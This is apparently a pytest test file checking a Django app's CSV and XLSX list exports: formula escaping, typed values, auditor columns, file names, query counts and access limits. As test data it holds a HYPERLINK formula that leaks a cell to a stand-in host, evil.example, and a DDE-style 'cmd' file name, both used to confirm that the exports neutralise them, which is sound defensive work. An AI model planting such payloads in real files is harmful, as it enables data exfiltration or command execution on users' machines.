"""List exports (CSV and XLSX of every list, qgov/exports.py): plain typed values, no formulas, the
columns an auditor needs, streamed at a fixed number of queries, named after agency, list and day."""

import csv
import datetime
import io
import re
import zoneinfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from qgov.choices import RoleChoices
from qgov.exports import csv_cell
from qgov.models import AuditEvent
from risks.services import risk_matrix_ensure
from tests.risks.factories import AssetFactory, ControlFactory, RiskAcceptanceFactory, RiskFactory, ThreatVectorFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def content_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(content_of(response).decode())))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(content_of(response))).active


def by_header(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.fixture
def auditor(agency, member_of):
    risk_matrix_ensure(agency)
    return member_of(agency, RoleChoices.AUDITOR)


# --- formula injection ------------------------------------------------------------------------

@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_csv_neutralises_cells_that_would_start_a_formula(text):
    assert csv_cell(text) == "'" + text


def test_csv_keeps_numbers_and_plain_text():
    assert (csv_cell(-3), csv_cell(2.5), csv_cell("Detector blinding"), csv_cell(None)) == (-3, 2.5,
                                                                                           "Detector blinding", "")


def test_hyperlink_title_is_text_in_csv_and_xlsx(client, agency, auditor):
    RiskFactory(agency=agency, title=HYPERLINK)
    client.force_login(auditor)
    rows = by_header(csv_rows(client.get("/risks/register/", {"export": "csv"})))
    assert rows[0]["Title"] == "'" + HYPERLINK

    sheet = xlsx_sheet(client.get("/risks/register/", {"export": "xlsx"}))
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Title") + 1)
    assert (title.value, title.data_type) == (HYPERLINK, "s")
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


# --- no HTML, typed values ----------------------------------------------------------------------

def test_overdue_review_date_exports_as_a_plain_date(client, agency, auditor):
    risk = RiskFactory(agency=agency, title="Late", inherent_likelihood=2, inherent_impact=5)
    overdue = timezone.localdate() - datetime.timedelta(days=3)
    type(risk).objects.filter(pk=risk.pk).update(review_date=overdue)
    client.force_login(auditor)
    response = client.get("/risks/register/", {"export": "csv"})
    body = content_of(response).decode()
    assert "<" not in body
    assert by_header(list(csv.reader(io.StringIO(body))))[0]["Next review"] == overdue.isoformat()

    sheet = xlsx_sheet(client.get("/risks/register/", {"export": "xlsx"}))
    rows = list(sheet.iter_rows(values_only=True))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Next review"] == datetime.datetime.combine(overdue, datetime.time())  # a date cell
    assert row["Inherent likelihood"] == 2 and row["Inherent impact"] == 5  # numbers, not text
    review = sheet.cell(row=2, column=rows[0].index("Next review") + 1)
    assert review.is_date and review.number_format == "yyyy-mm-dd"


def test_audit_export_has_the_plain_request_id_and_local_iso_times(client, agency, member_of):
    admin = member_of(agency, RoleChoices.ADMIN)
    client.force_login(admin)
    risk_matrix_ensure(agency)
    client.post("/risks/register/add/", {"title": "Audited", "inherent_likelihood": 3, "inherent_impact": 5,
                                         "treatment": "mitigate"})
    event = AuditEvent.objects.filter(request_id__gt="").latest("id")
    rows = by_header(csv_rows(client.get("/audit/", {"export": "csv"})))
    row = next(row for row in rows if row["Sequence"] == str(event.seq))
    assert row["Request id"] == event.request_id
    assert "<" not in "".join(value for row in rows for value in row.values())
    expected = event.timestamp.astimezone(zoneinfo.ZoneInfo(agency.time_zone)).replace(microsecond=0)
    assert row["Time"] == expected.isoformat()
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", row["Time"])

    sheet = xlsx_sheet(client.get("/audit/", {"export": "xlsx"}))
    rows = list(sheet.iter_rows(values_only=True))
    time_column = next(i for i, name in enumerate(rows[0]) if name.startswith("Time"))
    assert rows[0][time_column] == f"Time ({agency.time_zone})"
    seq_column = rows[0].index("Sequence")
    row = next(row for row in rows[1:] if row[seq_column] == event.seq)
    assert row[time_column] == expected.replace(tzinfo=None)


# --- the columns an auditor needs -------------------------------------------------------------

def test_risk_export_has_the_auditor_columns(client, agency, auditor):
    tv = ThreatVectorFactory(code="QOP-03")
    asset = AssetFactory(agency=agency, name="Link A")
    control = ControlFactory(agency=agency, title="Rotate keys")
    owner = auditor
    risk = RiskFactory(agency=agency, title="Harvest", description="Recorded today, read in 2035.", owner=owner,
                       inherent_likelihood=4, inherent_impact=5, current_likelihood=3, current_impact=4,
                       residual_likelihood=2, residual_impact=3, treatment="accept")
    risk.threat_vectors.add(tv)
    risk.assets.add(asset)
    risk.controls.add(control)
    valid_until = timezone.localdate() + datetime.timedelta(days=30)
    RiskAcceptanceFactory(agency=agency, risk=risk, status="approved", valid_until=valid_until)
    client.force_login(auditor)
    row = by_header(csv_rows(client.get("/risks/register/", {"export": "csv"})))[0]
    risk.refresh_from_db()
    assert row == {
        "Reference": risk.reference, "Title": "Harvest", "Description": "Recorded today, read in 2035.",
        "Threat vectors": "QOP-03", "Assets": "Link A", "Controls": "Rotate keys",
        "Inherent likelihood": "4", "Inherent impact": "5", "Inherent score": "20",
        "Current likelihood": "3", "Current impact": "4", "Current rating": risk.rating, "Current score": "12",
        "Residual likelihood": "2", "Residual impact": "3", "Residual score": "6",
        "Status": risk.get_status_display(), "Treatment": "Accept", "Owner": str(owner),
        "Next review": "", "Acceptance": "Approved", "Acceptance valid until": valid_until.isoformat(),
    }


# --- file names -------------------------------------------------------------------------------

@pytest.mark.parametrize(("path", "name"), [("/risks/register/", "risks"), ("/audit/", "audit-events"),
                                            ("/certification/devices/", "devices")])
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_file_name_has_agency_code_list_and_date(client, agency, auditor, path, name, export_format):
    client.force_login(auditor)
    response = client.get(path, {"export": export_format})
    today = timezone.localdate(timezone=zoneinfo.ZoneInfo(agency.time_zone))
    assert response["Content-Disposition"] == f'attachment; filename="{agency.code}-{name}-{today}.{export_format}"'


# --- streamed, fixed queries, filters and order kept -------------------------------------------

def test_csv_is_streamed_at_a_fixed_number_of_queries(client, agency, auditor):
    tvs = [ThreatVectorFactory(code=f"QOP-{n:02d}") for n in range(3)]
    assets = [AssetFactory(agency=agency) for _ in range(3)]
    controls = [ControlFactory(agency=agency) for _ in range(3)]
    client.force_login(auditor)

    def add_risks(count):
        for _ in range(count):
            risk = RiskFactory(agency=agency, owner=auditor)
            risk.threat_vectors.set(tvs)
            risk.assets.set(assets)
            risk.controls.set(controls)
            RiskAcceptanceFactory(agency=agency, risk=risk)

    counts = []
    for count in (3, 40):
        add_risks(count)
        for export_format in ("csv", "xlsx"):
            with CaptureQueriesContext(connection) as queries:
                response = client.get("/risks/register/", {"export": export_format})
                content = content_of(response)
            counts.append(len(queries))
            if export_format == "csv":
                assert response.streaming
                assert len(list(csv.reader(io.StringIO(content.decode())))) == 1 + {3: 3, 40: 43}[count]
    assert counts[0] == counts[2] and counts[1] == counts[3], counts
    assert counts[0] <= 12, [q["sql"][:120] for q in queries.captured_queries]


def test_export_keeps_filters_and_ordering(client, agency, auditor):
    for title, status in (("Bravo", "assessed"), ("Alpha", "assessed"), ("Charlie", "closed")):
        RiskFactory(agency=agency, title=title, status=status)
    client.force_login(auditor)
    rows = by_header(csv_rows(client.get("/risks/register/", {"status": "assessed", "sort": "-title",
                                                              "export": "csv"})))
    assert [row["Title"] for row in rows] == ["Bravo", "Alpha"]
    sheet = xlsx_sheet(client.get("/risks/register/", {"status": "assessed", "sort": "title", "export": "xlsx"}))
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Alpha", "Bravo"]


def test_export_needs_the_export_action_and_stays_in_the_agency(client, agency, other_agency, member_of):
    RiskFactory(agency=agency, title="Ours")
    RiskFactory(agency=other_agency, title="Theirs")
    client.force_login(member_of(agency, RoleChoices.VIEWER))
    assert client.get("/risks/register/", {"export": "csv"}).status_code == 403
    assert "Export CSV" not in client.get("/risks/register/").content.decode()
    client.force_login(member_of(agency, RoleChoices.AUDITOR))
    assert [row["Title"] for row in by_header(csv_rows(client.get("/risks/register/", {"export": "csv"})))] == \
        ["Ours"]
    html = client.get("/risks/register/").content.decode()
    assert "export=csv" in html and "export=xlsx" in html


# --- every list ---------------------------------------------------------------------------------

def list_paths():
    """The path of every list page (an ObjectListView) the product routes."""
    from django.urls import get_resolver

    from qgov.views.generic import ObjectListView

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern))
            else:
                view = getattr(pattern.callback, "view_class", None)
                if view is not None and issubclass(view, ObjectListView) and "<" not in str(pattern.pattern):
                    yield "/" + prefix + str(pattern.pattern)
    return sorted(set(walk(get_resolver().url_patterns)))


def test_every_list_is_exported_in_both_formats(client, agency, member_of):
    from django.contrib.contenttypes.models import ContentType

    from qgov.models import ImportRun
    from risks.models import Risk

    admin = member_of(agency, RoleChoices.ADMIN)
    RiskFactory(agency=agency, title=HYPERLINK)
    ImportRun.objects.create(agency=agency, content_type=ContentType.objects.get_for_model(Risk), requested_by=admin,
                             file_name="=cmd|' /C calc'!A0.csv", sha256="0" * 64, size=10, format="csv")
    client.force_login(admin)
    paths = list_paths()
    assert {"/risks/register/", "/audit/", "/imports/", "/certification/devices/"} <= set(paths), paths
    for path in paths:
        csv_response = client.get(path, {"export": "csv"})
        assert csv_response.status_code == 200, path
        rows = csv_rows(csv_response)
        assert len({len(row) for row in rows}) == 1, path
        assert not [cell for row in rows[1:] for cell in row if cell.startswith("=")], path
        sheet = xlsx_sheet(client.get(path, {"export": "xlsx"}))
        assert [cell.value for cell in sheet[1]][0] == rows[0][0], path
        assert sheet.max_row == len(rows), path
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], path


def test_export_of_a_distinct_filter_keeps_its_order(client, agency, auditor):
    """A filter across a many relation makes the query DISTINCT; sorted by a column the file does not
    read first, each risk still comes once, in the page's order (PostgreSQL is strict here)."""
    tv = ThreatVectorFactory(code="QOP-03", category="qkd_operational")
    other = ThreatVectorFactory(code="QOP-04", category="qkd_operational")
    for title in ("Bravo", "Alpha", "Charlie"):
        RiskFactory(agency=agency, title=title).threat_vectors.set([tv, other])
    client.force_login(auditor)
    params = {"category": "qkd_operational", "sort": "-title"}
    rows = by_header(csv_rows(client.get("/risks/register/", {**params, "export": "csv"})))
    assert [(row["Title"], row["Threat vectors"]) for row in rows] == [
        ("Charlie", "QOP-03; QOP-04"), ("Bravo", "QOP-03; QOP-04"), ("Alpha", "QOP-03; QOP-04")]
    sheet = xlsx_sheet(client.get("/risks/register/", {**params, "export": "xlsx"}))
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Charlie", "Bravo", "Alpha"]
